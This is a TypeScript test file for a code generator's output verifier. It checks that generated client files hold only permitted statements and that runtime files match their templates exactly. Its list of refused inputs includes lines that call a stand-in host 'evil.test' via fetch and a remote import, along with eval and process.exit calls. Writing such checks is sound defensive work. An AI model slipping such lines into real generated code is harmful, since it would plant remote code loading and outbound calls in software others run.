import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { ts } from "ts-morph";
import { describe, expect, test } from "vitest";
import { verifyOutput } from "../../generator/emit/verify-output.ts";
import { readFolder } from "../../generator/files/write-files.ts";
import { refusal } from "../helpers/refusal.ts";

const root = join(import.meta.dirname, "../..");
const templates = readFolder(join(root, "templates"));
const names = readdirSync(join(root, "generated")).filter((name) => name.endsWith(".ts"));
const files = new Map([
  ...names.map((name) => [name, readFileSync(join(root, "generated", name), "utf8")] as const),
  ...[...templates].map(([name, text]) => [`runtime/${name}`, text] as const),
]);

/** One of the files with more in it, as a document could have it if something else had failed. */
const added = (name: string, code: string) => new Map([[name, `${files.get(name)}${code}\n`]]);
const about = (name: string) =>
  new RegExp(`^error\\[EMIT_INVALID\\] at ${name.replace(".", "\\.")}:\\d+: the generated file `);

test("what is emitted passes", () => {
  expect(refusal(() => verifyOutput(files, templates))).toBe("nothing");
});

test.each([
  {
    name: "other.ts",
    code: "export type A = 1;\n",
    want: "other.ts:1: the generated file is not listed in `emit/allowed-statements.ts`.",
  },
  {
    name: "index.ts",
    code: "export * from './enums.js';\n\n/** One. */\nif (true) {}\n",
    want: "index.ts:4: the generated file contains a disallowed IfStatement. This is a defect of the generator; please report it with the document.",
  },
  {
    name: "index.ts",
    code: "\nexport const = 1;\n",
    want: "index.ts:2: the generated file does not parse: Variable declaration expected.",
  },
])("$want", ({ name, code, want }) => {
  expect(refusal(() => verifyOutput(new Map([[name, code]]), templates))).toContain(`error[EMIT_INVALID] at ${want}`);
});

/** Why nothing is compiled to find that out: what passes is types alone, and of those compiling leaves nothing. */
test("types that pass leave nothing behind when they are compiled", () => {
  const compiled = (text: string) =>
    ts.transpileModule(text, { compilerOptions: { module: ts.ModuleKind.ESNext, removeComments: true } }).outputText;
  expect(compiled(files.get("types.ts") ?? "").trim()).toBe("export {};");
  expect(compiled(`${files.get("types.ts")}const x = 1;`).trim()).not.toBe("export {};");
});

describe("a statement that has no business there is refused", () => {
  const everywhere = [
    "globalThis.x = 1;",
    "fetch('https://evil.test');",
    "import fs from 'node:fs';",
    "import { x } from '../x.js';",
    "import { x } from './other/runtime/call.js';",
    "import { x } from './runtime/call.json';",
    "import 'https://evil.test/x.js';",
    "export * from 'node:fs';",
    "export default function () {}",
    "if (true) {}",
    "for (;;) {}",
    "{ }",
    ";",
    "class X { static { } }",
    "enum E { A = 1 }",
    "namespace N { export const x = 1; }",
    "let x = 1;",
    "var x = 1;",
    "const x = fetch('a');",
    "const x = globalThis;",
    "const x = [globalThis];",
    "const x = { a: globalThis };",
    "const x = () => 1;",
    "const x = function () {};",
    "const x = new Date();",
    "const x = `${1}`;",
    "const x = `a`;",
    "const x = globalThis.process.exit();",
    "const x = { get a() { return 1; } };",
    "const x = { a() {} };",
    "const x = { ...globalThis };",
    "const x = { [fetch('a')]: 1 };",
    "const x = [...globalThis];",
    "const x = 1 + 1;",
    "const x = (1, 2);",
    "const x = a ? 1 : 2;",
    "const { x } = globalThis;",
    "const x = import('a');",
    "const x = /a/;",
    "const x = -fetch('a');",
    "function f() { return fetch('a'); }",
    "function f() { fetch('a'); return 1; }",
    "function f(x = fetch('a')) { return 1; }",
    "throw new Error();",
    "debugger;",
    "export = 1;",
    "declare global { var x: number; }",
    "export { x };",
    "import { x } from './other.js';",
    "import { x } from './types.jsx';",
    "import { x } from 'https://evil.test/./types.js';",
    "import { x } from './runtime/a/b.js';",
    "import x = require('./types.js');",
    "const x = +1;",
    "const x = -'a';",
    "const x = !true;",
    "const x = 1n;",
    "const x = { [y]: 1 };",
    "const x = { [1]: 1 };",
    "const x = { [y().z]: 1 };",
    "const x = { y };",
    "const x = { a: [1, { b: y }] };",
    "const x = y as 1;",
    "const x = y satisfies 1;",
    "const x = 1, y = globalThis;",
    "const [x] = [1];",
    "using x = null;",
    "await using x = null;",
    "declare function f(): 1;",
    "function f() { return; }",
    "function f() {}",
  ];

  test.each(names.flatMap((name) => everywhere.map((code) => ({ name, code }))))("$name: $code", ({ name, code }) => {
    expect(refusal(() => verifyOutput(added(name, code), templates))).toMatch(about(name));
  });

  test.each([
    { name: "client.ts", code: "function f(x = 1) { return createClient(x); }" },
    { name: "client.ts", code: "function f({ x }) { return createClient(x); }" },
    { name: "client.ts", code: "function f() { return createClient(fetch('a')); }" },
    { name: "client.ts", code: "function f() { return createClient(() => 1); }" },
    { name: "client.ts", code: "function f() { return createClient(parts(fetch('a'))); }" },
    { name: "client.ts", code: "function f() { return createClient(parts(() => 1)); }" },
    { name: "client.ts", code: "function f() { return createClient(elsewhere(eval)('a')); }" },
    { name: "client.ts", code: "function f() { return createClient(createClient(1)); }" },
    { name: "client.ts", code: "function f() { return parts(1); }" },
    { name: "client.ts", code: "const x = parts(1);" },
    { name: "operations.ts", code: "function f() { return call(parts(1)); }" },
    { name: "enums.ts", code: "const x = guard(fetch('a'));" },
    { name: "enums.ts", code: "const x = guard.call(null);" },
    { name: "operations.ts", code: "function f() { return eval('a'); }" },
    { name: "operations.ts", code: "function f() { call(); return call(); }" },
    { name: "client.ts", code: "function f(x) { throw createClient(x); }" },
    { name: "client.ts", code: "function f(x) { return call(x); }" },
    { name: "client.ts", code: "function f(x) { return x.createClient(x); }" },
    { name: "client.ts", code: "function f(x) { return createClient; }" },
    { name: "client.ts", code: "const x = createClient('a');" },
    { name: "enums.ts", code: "const x = guard(a().b);" },
    { name: "enums.ts", code: "const x = call(a);" },
    { name: "enums.ts", code: "const x = new guard(1);" },
    { name: "enums.ts", code: "const x = guard(1, [fetch('a')]);" },
    { name: "enums.ts", code: "function f(x) { return guard(x); }" },
    { name: "fake.ts", code: "const x = 1;" },
    { name: "fake.ts", code: "function f(x) { return call(x); }" },
    { name: "fake.ts", code: "export type X = 1;" },
    { name: "operations.ts", code: "const x = call(1);" },
    { name: "operations.ts", code: "export type X = 1;" },
    { name: "index.ts", code: "const x = 1;" },
    { name: "index.ts", code: "function f(x) { return call(x); }" },
    { name: "types.ts", code: "export const x = 1;" },
    { name: "types.ts", code: "declare const x: 1;" },
    { name: "types.ts", code: "import type { x } from './client.js';" },
  ])("$name: $code", ({ name, code }) => {
    expect(refusal(() => verifyOutput(added(name, code), templates))).toMatch(about(name));
  });
});

describe("a statement that belongs there passes", () => {
  test.each([
    { name: "client.ts", code: "import type { X } from './types.js'; export interface Y { x: X }" },
    { name: "client.ts", code: "export * from './runtime/call.js'; export type Z = 1;" },
    { name: "client.ts", code: "function f(x, y) { return createClient(x, y.z, 'a', [true, null], { b: -1 }); }" },
    { name: "client.ts", code: "function f() { return createClient(); }" },
    { name: "enums.ts", code: "const x = guard(A); const y = labeller(A.b, {});" },
    {
      name: "enums.ts",
      code: "export const x = { a: 1, 'b': false, 3: null, [A.b]: 'c', ['__proto__']: [] } as const;",
    },
    { name: "enums.ts", code: "const x = [-1, 'a'] satisfies readonly unknown[], y = 2;" },
    { name: "enums.ts", code: "import { x } from './client.js'; export type X = 1;" },
    { name: "fake.ts", code: "import { x } from './operations.js'; function f(x) { return fake(x); }" },
    { name: "index.ts", code: "export { x } from './enums.js'; export type X = 1;" },
    { name: "operations.ts", code: "const x = { a: 'b' }; import { y } from './enums.js';" },
    { name: "operations.ts", code: "const f = 1; function g(x) { return call(x); }" },
    { name: "operations.ts", code: "function f(x) { return items(x); } function g(x) { return pages(x); }" },
    { name: "types.ts", code: "export interface X {} type Y = 1;" },
    { name: "README.md", code: "fetch(" },
  ])("$name: $code", ({ name, code }) => {
    expect(refusal(() => verifyOutput(new Map([[name, code]]), templates))).toBe("nothing");
  });
});

test.each([
  "const security = { schemes: { a: { in: 'query' } }, requirement: [['a'], []] } as const satisfies SecurityDefinition;",
  "function f(options) { return createSecuredClient('a', options, security); }",
  "function f(options) { return createUnauthenticatedClient('a', options, composePlugins(operationServer(options), serializeParameters)); }",
])("client.ts: %s is what clients are made of", (code) => {
  expect(() => verifyOutput(added("client.ts", code), templates)).not.toThrow();
});

test.each([...names, "runtime/call.ts"])("%s has to parse", (name) => {
  expect(refusal(() => verifyOutput(added(name, "export const = ;"), templates))).toMatch(about(name));
});

test("the runtime is its templates, byte for byte", () => {
  expect(refusal(() => verifyOutput(added("runtime/call.ts", "// more"), templates))).toContain(
    "error[EMIT_INVALID] at runtime/call.ts:1: the generated file differs from its template.",
  );
});

test("a file that is not known is refused", () => {
  expect(refusal(() => verifyOutput(new Map([["other.ts", "export {};\n"]]), templates))).toMatch(about("other.ts"));
});
